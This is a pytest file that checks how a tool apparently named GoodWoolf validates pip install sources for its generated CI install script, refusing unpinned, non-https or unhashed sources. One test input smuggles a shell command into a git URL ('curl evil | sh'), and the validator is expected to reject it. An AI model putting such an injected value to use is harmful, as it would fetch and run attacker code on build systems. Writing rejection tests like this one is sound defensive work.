"""ci/install.sh, as `woolf init` writes it, installs GoodWoolf from a pinned source pip can really fetch."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from woolf.errors import UsageError
from woolf.forges.install_source import check_source
from woolf.ledger.create import CreateOptions, write_ci_files
from woolf.ledger.ledger import Ledger

ROOT = Path(__file__).parents[2]
SHA = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.unit
@pytest.mark.parametrize("spec", [
    "goodwoolf[s3]==0.1.0",  # what the index does not serve
    "git+https://github.com/o/goodwoolf",  # no commit: moves
    "git+https://github.com/o/goodwoolf@main",
    f"git+https://github.com/o/goodwoolf@{SHA}';curl${{IFS}}evil|sh;'",
    "https://example.com/goodwoolf-0.1.0-py3-none-any.whl",  # no hash
    f"http://example.com/goodwoolf.whl#sha256={'a' * 64}",  # not https
])
def test_unpinned_or_unsafe_sources_are_refused(spec):
    with pytest.raises(UsageError, match="not a pinned source"):
        check_source(spec)


@pytest.mark.unit
def test_pinned_sources_are_accepted():
    for spec in (f"git+https://github.com/o/goodwoolf@{SHA}",
                 f"https://github.com/o/goodwoolf/releases/download/v0.1.0/goodwoolf-0.1.0-py3-none-any.whl"
                 f"#sha256={'a' * 64}"):
        assert check_source(spec) == spec


def test_init_refuses_a_bad_source_before_writing(tmp_path):
    with pytest.raises(UsageError, match="not a pinned source"):
        Ledger.init(tmp_path / "led", CreateOptions(storage=str(tmp_path / "s"), woolf_source="goodwoolf==0.1.0"))
    assert not (tmp_path / "led").exists()


def _run(script: Path, cwd: Path, report: Path | None = None) -> subprocess.CompletedProcess:
    # pip as CI would run it, but resolving only: no index, no dependencies, nothing installed
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
           "PIP_DRY_RUN": "1", "PIP_NO_DEPS": "1", "PIP_NO_INDEX": "1", "PIP_NO_BUILD_ISOLATION": "0",
           "PIP_DISABLE_PIP_VERSION_CHECK": "1", **({"PIP_REPORT": str(report)} if report else {})}
    return subprocess.run(["bash", str(script)], cwd=cwd, env=env, capture_output=True, text=True, timeout=600)


def test_install_script_without_a_source_stops_with_a_hint(tmp_path):
    led = tmp_path / "led"
    write_ci_files(led, f"git+https://github.com/o/goodwoolf@{SHA}")
    script = led / "ci" / "install.sh"
    script.write_text(script.read_text().replace(f"git+https://github.com/o/goodwoolf@{SHA}", ""))
    out = _run(script, led)
    assert out.returncode == 1 and "pins no GoodWoolf source" in out.stderr and "woolf-source" in out.stderr
